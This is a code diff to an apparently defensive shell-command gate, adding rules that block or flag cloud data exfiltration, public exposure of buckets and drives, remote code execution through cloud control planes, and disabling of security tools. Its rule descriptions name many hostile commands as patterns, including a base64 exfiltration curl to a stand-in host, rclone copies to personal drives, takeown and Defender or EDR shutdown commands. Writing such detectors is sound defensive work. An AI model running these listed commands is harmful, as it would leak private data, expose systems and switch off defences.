@@ -44,6 +44,7 @@ import re
 from collections.abc import Callable, Iterator
 from typing import TYPE_CHECKING
 
+from gate.catalogue import COPY
 from gate.effects import WRITE_FLAG_PROGRAMS
 from gate.model import Risk, Span
 from gate.paths import supervisor_dirs
@@ -57,7 +58,7 @@ from gate.rules.shell_dataout import DataOutChecks
 from gate.rules.shell_destructive import DestructiveChecks
 from gate.rules.shell_evasion import EvasionChecks
 from gate.rules.shell_persistence import PersistenceChecks
-from gate.rules.shell_privilege import PrivilegeChecks
+from gate.rules.shell_privilege import PrivilegeChecks, share_config
 from gate.rules.shell_programs import ProgramChecks
 from gate.rules.shell_vocab import (
     _DB_CLIENTS,
@@ -456,6 +457,10 @@ def _command_steps(name: str) -> tuple[Step, ...]:
         steps.append(lambda d, cmd, a, where, add, downloaded: d.lolbin(cmd, where, add))
     if name in _NET_TOOLS or name in NET_SENDERS:
         steps.append(lambda d, cmd, a, where, add, downloaded: d.network_tool(cmd, a, where, add))
+    if name in _SHARE_WRITERS:
+        steps.append(lambda d, cmd, a, where, add, downloaded: share_config(cmd, a, where, add))
+    if name in COPY.verbs or name in COPY.uploaders or name in COPY.loaders:
+        steps.append(lambda d, cmd, a, where, add, downloaded: d.copy_out(cmd, a, where, add))
     if name in SHELLS or name in INTERPRETERS or name in ("eval", "source", ".", "iex", "invoke-expression"):
         steps.append(Detector.executor)
     if name in DOWNLOADERS:
@@ -468,12 +473,14 @@ def _command_steps(name: str) -> tuple[Step, ...]:
     return tuple(steps)
 
 
+_SHARE_WRITERS = frozenset({"tee", "echo", "printf", "cat"})  # what writes a share section into smb.conf
 _MKFS_STEPS: tuple[Step, ...] = (lambda d, cmd, a, where, add, downloaded: d.mkfs(cmd, where, add),)
 # every name a family of `Detector.command` tests for; any other name is only checked for a mkfs prefix
 _COMMAND_STEPS: dict[str, tuple[Step, ...]] = {n: _command_steps(n) for n in (
     *_BY_NAME, *_DB_CLIENTS, "drop", "truncate", "delete", "alter", "update", *_PKG_INSTALL, *_PKG_REMOVE,
     *_PUBLISH, *_INFRA_DESTROY, *_LOLBINS, *_NET_TOOLS, *NET_SENDERS, *SHELLS, *INTERPRETERS, "eval", "source", ".",
-    "iex", "invoke-expression", *DOWNLOADERS)}
+    "iex", "invoke-expression", *DOWNLOADERS, *COPY.verbs, *COPY.uploaders, *COPY.loaders,
+    *_SHARE_WRITERS)}
 
 
 # -- the entry points ----------------------------------------------------------------------------
@@ -597,7 +604,10 @@ RULES: tuple[Rule, ...] = (
           "the shell history both cleared and stopped, or stopped two ways, in one line (history -c; unset "
           "HISTFILE, HISTFILESIZE=0, PSReadLine's -HistorySaveStyle SaveNothing with its saved history removed)."),
     _make("block.shell.insecure-permissions-root", "world-writable or re-owned system tree", Risk.CRITICAL,
-          "chmod 777 (or any world-writable mode) on /, home or a system path; chown -R / chgrp -R on one."),
+          "chmod 777 (or any world-writable mode) on /, home or a system path; chown -R / chgrp -R on one; the same "
+          "change run by find -exec or xargs on everything a search of one finds (find /home -exec chown x {} ;); "
+          "write access by ACL over one (setfacl -R -m u:x:rwx /home); ownership of a whole drive, Windows or the "
+          "users' folders taken (takeown /f C:\\Users /r)."),
     _make("block.shell.credential-tamper", "credential tampering", Risk.CRITICAL,
           "Writing account, sudo or SSH key files (`[shell] credential_files`: /etc/passwd, /etc/shadow, "
           "sudoers, authorized_keys, ld.so.preload), also through a program's output flag (rustc -o "
@@ -629,6 +639,44 @@ RULES: tuple[Rule, ...] = (
           "curl x.example/?d=$(cat f | base64)), ping -p with command output; an account, secret or records file "
           "(or a file just filled with the environment) uploaded to a public drop site; an account file or a "
           "personal folder piped to a network sink; a data file mailed to a free-mail address."),
+    _make("block.shell.cloud-exfiltration", "copies private data to storage outside the organisation",
+          Risk.CRITICAL,
+          "An object-store, sync or backup client (aws s3, gsutil, gcloud storage / compute scp, az storage, azcopy, "
+          "rclone, s3cmd, s5cmd, mc, restic, borg, kopia, duplicity, rsync, scp), an HTTP upload (curl -T, -F "
+          "f=@file), smbclient put, or a Windows copy to another machine's share (robocopy, xcopy, Copy-Item "
+          "\\\\host\\share) taking what a business keeps private (a home, a personal or business-records folder "
+          "such as finance, HR, payroll or customers, /etc, a whole drive or share, a database dump or one piped "
+          "in) to a personal or free file-sharing account (an rclone remote "
+          "named mega:, dropbox:, gdrive:), a drop site, a bare public IP address (not one of the own network: "
+          "10/8, 172.16/12, 192.168/16, 100.64/10) or a bucket written without "
+          "credentials; or a bucket named for production, customers, backups or payroll copied into another "
+          "bucket; a whole top folder of a home (~/projects) sent to such an account, drop site or bucket; a database "
+          "dump piped or redirected into a database client connected to a bare public address (pg_dump | psql -h "
+          "IP, mongorestore --uri mongodb://IP). The "
+          "same data copied to other storage asks (`resources/programs.toml` `[cloud_copy]`)."),
+    _make("block.shell.public-exposure", "makes data public or opens a drive to everyone", Risk.CRITICAL,
+          "A bucket or container made readable or writable by anyone on the internet (aws s3api put-bucket-acl "
+          "--acl public-read, a bucket policy allowing Principal \"*\", the public access block removed, gsutil "
+          "allUsers grants, gcloud add-iam-policy-binding --member=allUsers, az storage container --public-access), "
+          "a key, queue, function or role policy that lets anyone in, a disk snapshot, machine image or database "
+          "snapshot made public, a database server opened to every address (firewall 0.0.0.0-255.255.255.255, "
+          "authorized network 0.0.0.0/0), a home or system folder served through a public tunnel (tailscale funnel /, "
+          "ngrok http file:///home/x); "
+          "a whole drive, Windows or the users' folders shared with or writable by everyone (net share C=C:\\ "
+          "/grant:everyone,full, New-SmbShare -FullAccess Everyone, icacls D:\\ /grant Everyone:F), or the whole "
+          "disk, the homes or /etc shared to guests in smb.conf. A bucket named for a website (www, site, static, "
+          "public, assets, cdn, docs) and a Cloud Run or Functions invoker grant ask instead."),
+    _make("block.shell.cloud-remote-exec", "plants code or a way back in on cloud machines and accounts",
+          Risk.CRITICAL,
+          "An instance's boot script replaced (aws ec2 modify-instance-attribute --user-data, gcloud compute "
+          "instances add-metadata startup-script=), SSH keys put in project or machine metadata; downloaded, "
+          "decoded or reverse-shell code run on cloud machines through the control plane (aws ssm send-command, "
+          "az vm run-command, gcloud compute ssh --command); long-lived keys or console passwords made for a cloud "
+          "user, a service account or an application (aws iam create-access-key --user-name, create-login-profile, "
+          "gcloud iam service-accounts keys create, az ad sp credential reset); administrator rights attached to "
+          "a cloud identity (AdministratorAccess, an inline policy allowing every action), owner or access "
+          "administrator of a whole subscription, project, folder or organisation (az role assignment create "
+          "--role Owner at subscription scope, gcloud projects add-iam-policy-binding --role=roles/owner)."),
     _make("block.shell.credential-read", "prints a private key or credential file", Risk.CRITICAL,
           "A program that prints or encodes a file (cat, head, base64, xxd, ...) over a private key, cloud "
           "credential or password store (`[files] credentials`): the same files a file_read blocks; one copied out "
@@ -657,7 +705,9 @@ RULES: tuple[Rule, ...] = (
           "Deletes past undoing outside the file system: a production, default or system namespace deleted "
           "(kubectl delete namespace prod), infrastructure destroyed without a review of the plan (terraform "
           "destroy -auto-approve), a backup or production bucket emptied, instances terminated or databases "
-          "deleted through a cloud CLI, every object of a kind deleted in every namespace (kubectl delete pods "
+          "deleted through a cloud CLI (aws; gcloud and az when the resource is named for production: gcloud sql "
+          "instances delete orders-prod, az group delete -n shop-prod), every object of a kind deleted in every "
+          "namespace (kubectl delete pods "
           "--all -A), every process killed at once (kill -9 -1, killall5)."),
     _make("block.shell.sysrq", "kernel emergency keys", Risk.CRITICAL,
           "Writing /proc/sysrq-trigger or enabling sysrq: crashes, reboots or kills everything at once."),
@@ -673,7 +723,11 @@ RULES: tuple[Rule, ...] = (
     _make("block.shell.defense-evasion", "switches a defence off", Risk.CRITICAL,
           "Disabling or flushing the firewall (ufw disable, iptables -F, nft flush ruleset, netsh advfirewall "
           "off), SELinux/AppArmor/Gatekeeper/SIP, auditing or a security service (`[shell] security_services`), "
-          "Defender, kernel protections (ASLR), system recovery and backups (vssadmin delete shadows); a security "
+          "Defender (its signatures removed: MpCmdRun -RemoveDefinitions), an endpoint agent unloaded or killed "
+          "(sentinelctl unload, mdatp config real-time-protection --value disabled, taskkill /im MsMpEng.exe), Sysmon "
+          "uninstalled, ETW sessions of the event log stopped (logman stop EventLog-...), a security filter driver "
+          "unloaded (fltmc unload), kernel protections (ASLR), system recovery and backups (vssadmin delete "
+          "shadows); a security "
           "or logging service stopped by name (AV agents, pf, DNS filters), journald told to store nothing, registry "
           "values that switch updates, ETW, AMSI or script logging off; a system shell copied under another name "
           "and run, or a script dressed as a picture and run; the event log switched off by its configuration (sc "
@@ -740,6 +794,11 @@ RULES: tuple[Rule, ...] = (
     _make("confirm.shell.credential-search", "searches for credentials", Risk.HIGH,
           "Recursive searches for passwords, secrets, API keys or private keys (grep -r password, rg "
           "'BEGIN.*PRIVATE'), and searches for key or credential files (find -name id_rsa, locate .pem)."),
+    _make("confirm.shell.cloud-remote-exec", "runs code on cloud machines", Risk.HIGH,
+          "A script run on cloud machines through the control plane (aws ssm send-command, az vm run-command "
+          "invoke, az vm extension set with a custom script, gcloud compute ssh --command), a cloud function's code "
+          "replaced (aws lambda update-function-code), an access key made for the signed-in user: what runs there "
+          "is out of this gate's sight."),
     _make("confirm.shell.remote-mutation", "changes something on another machine", Risk.MEDIUM,
           "HTTP DELETE/PUT/PATCH to a remote host (curl -X DELETE, http PUT), cloud CLI verbs that create, "
           "change or grant (aws iam create-access-key, gcloud ... add-iam-policy-binding), gh pr merge / "
